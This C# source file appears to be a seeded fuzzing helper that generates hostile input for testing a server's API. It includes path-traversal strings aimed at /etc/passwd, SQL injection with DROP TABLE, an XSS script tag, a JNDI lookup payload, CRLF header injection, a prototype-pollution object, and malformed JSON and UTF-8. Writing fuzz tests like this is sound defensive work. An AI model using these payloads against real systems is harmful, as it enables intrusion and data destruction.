using System.Text;
using System.Text.Json;

namespace Hotline.Fuzz;

/// <summary>
/// Seeded source of hostile input: JSON fragments (raw text, so that it can also be invalid JSON, out-of-range numbers,
/// lone surrogates and deep nesting), hostile strings, path segments and query values.
/// </summary>
public sealed class Hostile(Random rng, IReadOnlyList<string> knownIds)
{
    public Random Rng { get; } = rng;

    /// <summary>Texts that are hostile to a server: empty, control, bidi, NUL, oversize, path tricks, injection text.</summary>
    public string Text()
    {
        return Rng.Next(24) switch
        {
            0 => "",
            1 => "   ",
            2 => "\0",
            3 => "a\0b",
            4 => "\u202Eevil\u202C",
            5 => "\u200F\u2066x\u2069",
            6 => "\u0007bell\u001b[31m",
            7 => "\r\n\r\nX-Injected: 1",
            8 => new string('x', Pick(256, 1001, 4001, 70_000)),
            9 => string.Concat(Enumerable.Repeat("😀", Pick(10, 3000))),
            10 => "\uFFFF\uFFFE\uFEFF",
            11 => "../../../../etc/passwd",
            12 => "%00%2e%2e%2f",
            13 => "<script>alert(1)</script>",
            14 => "' OR '1'='1'; DROP TABLE consultations; --",
            15 => "${jndi:ldap://example.invalid/a}",
            16 => "\\\\server\\share",
            17 => "null",
            18 => "工资拖欠三个月\u0085",
            19 => knownIds.Count > 0 ? knownIds[Rng.Next(knownIds.Count)] : "c-0",
            20 => (knownIds.Count > 0 ? knownIds[Rng.Next(knownIds.Count)] : "c-0") + "\0",
            21 => "c-" + Guid.NewGuid().ToString("N"),
            22 => "\t",
            _ => new string((char)Rng.Next(0x20, 0xD7FF), Rng.Next(1, 40)),
        };
    }

    /// <summary>A JSON value as raw text: any type, possibly invalid JSON.</summary>
    public string Fragment()
    {
        return Rng.Next(16) switch
        {
            0 or 1 or 2 or 3 => Str(Text()),
            4 => Pick("\"\\ud800\"", "\"a\\udfffb\"", "\"\\u0000\"", "\"\\uDBFF\"", "\"\\x41\""),
            5 => Pick("0", "-1", "2147483648", "-2147483649", "9223372036854775808", "1e308", "1e309", "-0", "0.5", "1E-400",
                "123456789012345678901234567890", "NaN", "Infinity", "-Infinity", "0x10", "01"),
            6 => Pick("true", "false", "null"),
            7 => "[" + string.Join(",", Enumerable.Range(0, Pick(0, 1, 3, 2000)).Select(_ => Rng.Next(3) == 0 ? Str(Text()) : "1")) + "]",
            8 => "{" + (Rng.Next(2) == 0 ? "" : $"\"a\":{Str(Text())}") + "}",
            9 => Deep(Pick(65, 1000, 20_000)),
            10 => Pick("{", "\"unterminated", "tru", "'single'", "[1,]", "{\"a\":1,}", "{\"a\" 1}", "\u0000", "", "}{"),
            11 => Str(Text()) + "garbage",
            12 => "[" + Str(Text()) + "]",
            13 => "{\"__proto__\":{\"admin\":true},\"$type\":\"System.Object\"}",
            14 => Str(new string('y', Pick(70_000, 300_000))),
            _ => Str(Text()),
        };
    }

    /// <summary>Deeply nested arrays or objects (System.Text.Json stops at depth 64).</summary>
    public string Deep(int depth) => Rng.Next(2) == 0
        ? new string('[', depth) + "1" + new string(']', depth)
        : string.Concat(Enumerable.Repeat("{\"a\":", depth)) + "1" + new string('}', depth);

    /// <summary>A hostile path segment (already escaped or deliberately malformed).</summary>
    public string Segment() => Rng.Next(12) switch
    {
        0 => "%00",
        1 => "%2e%2e%2f%2e%2e%2fetc",
        2 => "a%20b",
        3 => new string('a', Pick(300, 5000)),
        4 => "%ZZ",
        5 => "%C3%28",
        6 => "%E2%80%AE",
        7 => Uri.EscapeDataString("工资"),
        8 => "-1",
        9 => "99999999999999999999",
        10 => Uri.EscapeDataString(Text().Length > 2000 ? "long" : Text()) is { Length: > 0 } s ? s : "%20",
        _ => knownIds.Count > 0 ? Uri.EscapeDataString(knownIds[Rng.Next(knownIds.Count)]) : "x",
    };

    /// <summary>A hostile query value (raw, may be malformed).</summary>
    public string QueryValue() => Pick("-1", "0", "99999999999999999999", "abc", "1e3", "", "%00", "2147483648", "-9223372036854775809",
        "not-a-date", "9999-12-31T23:59:59Z", "0001-01-01T00:00:00Z", "2026-13-45", "%E2%80%AE", "true", "[1]", new string('9', 400));

    public static string Str(string s) => JsonSerializer.Serialize(s);

    public T Pick<T>(params T[] options) => options[Rng.Next(options.Length)];

    /// <summary>Bytes that are not UTF-8, spliced into a body.</summary>
    public byte[] BreakUtf8(string body)
    {
        var bytes = Encoding.UTF8.GetBytes(body);
        var bad = Pick(new byte[] { 0xC3, 0x28 }, new byte[] { 0xFF }, new byte[] { 0xED, 0xA0, 0x80 }, new byte[] { 0xF8, 0x88, 0x80, 0x80, 0x80 }, new byte[] { 0xC0, 0xAF });
        var at = bytes.Length == 0 ? 0 : Rng.Next(bytes.Length);
        // Prefer the inside of a string value, where a parser must decode it.
        var quote = Array.IndexOf(bytes, (byte)'"', Math.Min(at, Math.Max(0, bytes.Length - 1)));
        if (quote >= 0) at = quote + 1;
        return [.. bytes[..at], .. bad, .. bytes[at..]];
    }
}
